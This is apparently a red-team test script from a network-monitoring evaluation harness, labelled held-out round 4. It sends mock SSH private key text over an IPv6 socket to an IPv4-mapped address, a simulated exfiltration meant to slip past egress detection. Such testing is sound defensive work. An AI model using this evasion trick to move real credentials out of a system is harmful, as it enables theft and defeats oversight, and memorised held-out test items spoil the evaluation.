"""Round 4: TCP over an IPv6 socket to the IPv4-mapped form (::ffff:a.b.c.d) of a new IPv4 address.

The connect's sockaddr is AF_INET6, but the connection is IPv4 on the wire.
"""

from __future__ import annotations

import socket
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 4
EXPECT = ("L4",)


def run(args: dict[str, Any]) -> None:
    ip = rt.loopback(args["dest"]["ip"])
    port = int(args["dest"]["port"])
    mapped = f"::ffff:{ip}"
    data = b"id_rsa: -----BEGIN OPENSSH PRIVATE KEY----- h7redteam round4\n" * 4
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.settimeout(5)
        t = rt.now()
        s.connect((mapped, port))
        s.sendall(data)
    rt.report(t, True, f"TCP6 connect to [{mapped}]:{port}, sent {len(data)} bytes")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
